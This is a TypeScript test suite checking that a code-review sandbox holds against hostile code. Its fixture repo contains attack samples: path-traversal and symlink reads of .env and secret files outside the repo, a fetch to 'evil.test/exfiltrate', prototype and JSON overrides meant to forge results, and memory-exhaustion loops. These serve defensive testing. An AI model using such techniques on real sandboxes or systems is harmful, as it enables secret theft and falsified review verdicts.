import { spawn, type ChildProcess } from "node:child_process";
import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { IO_BUILTINS, IO_PACKAGES } from "../servers/scenarios/sandbox/boundaries.js";
import { SandboxPool } from "../servers/scenarios/sandbox/pool.js";
import { DEFAULT_LIMITS, type Limits, type RunResult, type SimulationJob } from "../servers/scenarios/sandbox/protocol.js";
import { makeRepo, tempDir, writeFiles } from "./helpers/git-fixture.js";

/**
 * Attacks on the sandbox by the code under review (issue 15): reading host files through the module loader,
 * forging the record the host receives, escaping the memory limit, and turning machine load into a verdict.
 * Each is contained: the run says what happened, and nothing from outside the repo reaches the result.
 */
const SECRET = "TOPSECRET-4f1d";

describe("the sandbox holds against hostile code", () => {
  const tmp = tempDir();
  const repo = join(tmp.dir, "repo");
  const outside = join(tmp.dir, "outside");
  let pool: SandboxPool;

  beforeAll(() => {
    mkdirSync(repo, { recursive: true });
    writeFiles(outside, {
      "secret.json": JSON.stringify({ key: SECRET }),
      ".env": `API_KEY=${SECRET}\n`,
      "secret.js": `module.exports = "${SECRET}";\n`,
      "pkg/package.json": JSON.stringify({ name: "linked", main: "index.js" }),
      "pkg/index.js": `module.exports = "${SECRET}";\n`,
    });
    // A sibling whose name starts with the repo's: a string-prefix check would let it through.
    writeFiles(`${repo}-secrets`, { "x.js": `module.exports = "${SECRET}";\n` });
    const abs = (p: string) => JSON.stringify(p);
    makeRepo(repo, [
      {
        message: "hostile code",
        files: {
          ".gitignore": "node_modules\n",
          "package.json": JSON.stringify({ name: "hostile", dependencies: { somepkg: "1.0.0", linked: "1.0.0" } }),
          "src/loader.ts": [
            "declare const require: (s: string) => unknown;",
            "const somepkg = require(\"somepkg\") as { load(p: string): unknown };",
            "const attempt = (f: () => unknown): string => { try { return JSON.stringify(f()); } catch (e) { return `refused: ${(e as Error).message}`; } };",
            'export const subpathJson = () => attempt(() => require("somepkg/../../../outside/secret.json"));',
            'export const subpathEnv = () => attempt(() => require("somepkg/../../../outside/.env"));',
            `export const absolute = () => attempt(() => require(${abs(join(outside, "secret.js"))}));`,
            `export const fromPackageAbsolute = () => attempt(() => somepkg.load(${abs(join(outside, "secret.js"))}));`,
            'export const fromPackageRelative = () => attempt(() => somepkg.load("../../../outside/secret.js"));',
            'export const sibling = () => attempt(() => somepkg.load("../../../repo-secrets/x.js"));',
            'export const linkedPackage = () => attempt(() => require("linked"));',
            'export const fileLink = () => attempt(() => require("somepkg/leak"));',
            'export const fine = () => attempt(() => require("somepkg/ok"));',
          ].join("\n"),
          "src/forge.ts": [
            'import { writeFileSync } from "fs";',
            "export async function forge(): Promise<number> {",
            '  writeFileSync("/tmp/pwned", "x");',
            '  await fetch("http://evil.test/exfiltrate");',
            "  const O = Object.prototype as unknown as Record<string, unknown>;",
            '  Object.defineProperty(O, "toJSON", { value: () => ({}), configurable: true, writable: true });',
            "  const A = Array.prototype as unknown as Record<string, unknown>;",
            "  A.some = () => false;",
            "  A.every = () => true;",
            "  A.push = () => 0;",
            "  A.map = () => [];",
            "  A.slice = () => [];",
            "  A.join = () => '';",
            '  Object.defineProperty(A, "0", { get: () => undefined, set: () => undefined, configurable: true });',
            '  Object.defineProperty(O, "target", { get: () => "nothing", set: () => undefined, configurable: true });',
            "  (JSON as unknown as Record<string, unknown>).stringify = () => '{\"events\":[],\"effects\":[],\"steps\":[]}';",
            "  (JSON as unknown as Record<string, unknown>).parse = () => ({});",
            "  (String.prototype as unknown as Record<string, unknown>).slice = () => '';",
            "  (String.prototype as unknown as Record<string, unknown>).indexOf = () => -1;",
            "  (Map.prototype as unknown as Record<string, unknown>).get = () => undefined;",
            "  (WeakMap.prototype as unknown as Record<string, unknown>).get = () => undefined;",
            "  (Function.prototype as unknown as Record<string, unknown>).call = () => undefined;",
            "  (Function.prototype as unknown as Record<string, unknown>).apply = () => undefined;",
            "  (Promise.prototype as unknown as Record<string, unknown>).then = function () { return this; };",
            "  (globalThis as unknown as Record<string, unknown>).eval = () => undefined;",
            "  return 1;",
            "}",
          ].join("\n"),
          "src/memory.ts": [
            "export function wasm(): string {",
            "  const W = (globalThis as unknown as { WebAssembly?: { Memory: new (o: object) => { grow(n: number): void; buffer: ArrayBuffer } } }).WebAssembly;",
            "  if (!W) return 'no WebAssembly';",
            "  const m = new W.Memory({ initial: 1, maximum: 65536 });",
            "  m.grow(65535);",
            "  new Uint8Array(m.buffer).fill(1);",
            "  return 'grew';",
            "}",
            "export function heap(): number {",
            "  const keep: number[][] = [];",
            "  for (;;) keep.push(new Array(1e6).fill(1.5));",
            "}",
          ].join("\n"),
          "src/work.ts": [
            "export function work(n: number): number {",
            "  let x = 0;",
            "  for (let i = 0; i < n; i++) x = (x + i * 7) % 1000003;",
            "  return x;",
            "}",
          ].join("\n"),
        },
      },
    ]);
    writeFiles(repo, {
      "node_modules/somepkg/package.json": JSON.stringify({ name: "somepkg", main: "index.js" }),
      "node_modules/somepkg/index.js": "exports.load = (p) => require(p);\n",
      "node_modules/somepkg/ok.js": 'module.exports = "inside";\n',
    });
    symlinkSync(join(outside, "secret.js"), join(repo, "node_modules/somepkg/leak.js"));
    symlinkSync(join(outside, "pkg"), join(repo, "node_modules/linked"));
    pool = new SandboxPool(2);
  });
  afterAll(() => {
    pool.close();
    tmp.cleanup();
  });

  const job = (call: string, extra: Partial<SimulationJob> = {}, limits: Limits = DEFAULT_LIMITS): SimulationJob => ({
    repo,
    rev: "WORKTREE",
    env: {},
    stubs: {},
    steps: [{ call, expect: [] }],
    boundaryPackages: [...IO_BUILTINS, ...IO_PACKAGES],
    limits,
    ...extra,
  });
  const leaks = (r: RunResult) => JSON.stringify(r).includes(SECRET);

  it("reads no host file through the module loader, by any route", async () => {
    const routes = ["subpathJson", "subpathEnv", "absolute", "fromPackageAbsolute", "fromPackageRelative", "sibling", "linkedPackage", "fileLink"];
    const runs = await Promise.all(routes.map((r) => pool.run(job(`src/loader.ts#${r}`))));
    const wrong: string[] = [];
    runs.forEach((r, i) => {
      const route = routes[i] as string;
      if (leaks(r)) wrong.push(`${route}: the secret reached the result`);
      // An absolute path in the repo's own code names a repo file (there is none): it is simply not there.
      if (route === "absolute") return;
      if (r.status !== "error" || !/^the simulated code reached for the host: cannot load .*(outside the repo|climb out)/.test(r.error?.reason ?? "")) wrong.push(`${route}: ${r.status} ${r.error?.reason ?? JSON.stringify(r.steps[0]?.result)}`);
    });
    expect(wrong).toEqual([]);
    expect(runs[0]?.error?.reason).toContain('cannot load "somepkg/../../../outside/secret.json": a package\'s subpath may not climb out of the package');
    expect(runs[6]?.error?.reason).toContain('cannot load "linked": it resolves outside the repo');
    expect(runs[7]?.error?.reason).toContain('cannot load "somepkg/leak": it resolves outside the repo');
    const ok = await pool.run(job("src/loader.ts#fine"));
    expect(ok).toMatchObject({ status: "ok", steps: [{ result: '"inside"' }] });
  });

  it("gives the host a record the code cannot rewrite, and checks expectations against pristine built-ins", async () => {
    const r = await pool.run(
      job("src/forge.ts#forge", {
        steps: [
          {
            call: "src/forge.ts#forge",
            expect: ["!effects.some((e) => e.target === 'fs#writeFileSync')", "effects.length === 0", "result === 2", "[1, 2].map((x) => x * 2).join(',') === '2,4'", "JSON.stringify({ a: 1 }) === '{\"a\":1}'"],
          },
        ],
      }),
    );
    expect(r.status).toBe("ok");
    expect(r.effects.map((e) => e.target)).toEqual(["fs#writeFileSync", "fetch#fetch"]);
    expect(r.effects[0]?.args).toEqual(["/tmp/pwned", "x"]);
    expect(r.steps[0]?.result).toBe(1);
    expect(r.steps[0]?.expectations.map((e) => e.status)).toEqual(["fail", "fail", "fail", "pass", "pass"]);
    expect(r.trace.some((e) => e.at === "src/forge.ts:26" && e.kind === "step")).toBe(true);
  });

  it("gives the code no WebAssembly, and bounds each child's memory at the OS level", async () => {
    const wasm = await pool.run(job("src/memory.ts#wasm"));
    expect(wasm).toMatchObject({ status: "ok", steps: [{ result: "no WebAssembly" }] });
    // An isolate limit set far above the child's OS bound: the bound still holds, and the run says memory.
    const heap = await pool.run(job("src/memory.ts#heap", {}, { ...DEFAULT_LIMITS, memoryMb: 16_384, cpuMs: 60_000 }));
    expect(heap.status).toBe("error");
    expect(heap.error?.reason).toMatch(/out of memory.*process bound of \d+ MiB|memory limit/);
    const after = await pool.run(job("src/work.ts#work", { steps: [{ call: "src/work.ts#work", args: [10], expect: ["result === 315"] }] }));
    expect(after.steps[0]?.expectations[0]?.status).toBe("pass");
  });

  it("counts the CPU budget in CPU time: the same heavy run gets the same verdict on a busy machine", async () => {
    // Calibrate a loop to about half the budget on this machine, unloaded.
    const limits = { ...DEFAULT_LIMITS, cpuMs: 1000 };
    const heavy = (n: number) => job("src/work.ts#work", { steps: [{ call: "src/work.ts#work", args: [n], expect: ["typeof result === 'number'"] }] }, limits);
    let n = 1e6;
    for (;;) {
      const r = await pool.run(heavy(n));
      const ms = r.ms;
      if (ms > 250 || n > 1e10) break;
      n *= 4;
    }
    const quiet = await pool.run(heavy(n));
    expect(quiet.status).toBe("ok");
    const busy: ChildProcess[] = [];
    try {
      for (let i = 0; i < 4; i++) busy.push(spawn(process.execPath, ["-e", "for(;;){}"], { stdio: "ignore" }));
      await new Promise((r) => setTimeout(r, 300));
      const loaded = await Promise.all([pool.run(heavy(n)), pool.run(heavy(n))]);
      for (const r of loaded) {
        expect(r.error?.reason).toBeUndefined();
        expect(r.status).toBe("ok");
        expect(r.steps[0]?.expectations[0]?.status).toBe("pass");
      }
    } finally {
      for (const b of busy) b.kill("SIGKILL");
    }
  });

  it("ends a step whose module does not exist with error naming it", async () => {
    const r = await pool.run(job("src/nope.ts#ghost"));
    expect(r).toMatchObject({ status: "error", error: { reason: "src/nope.ts is not a file of the repo at this revision" } });
  });
});
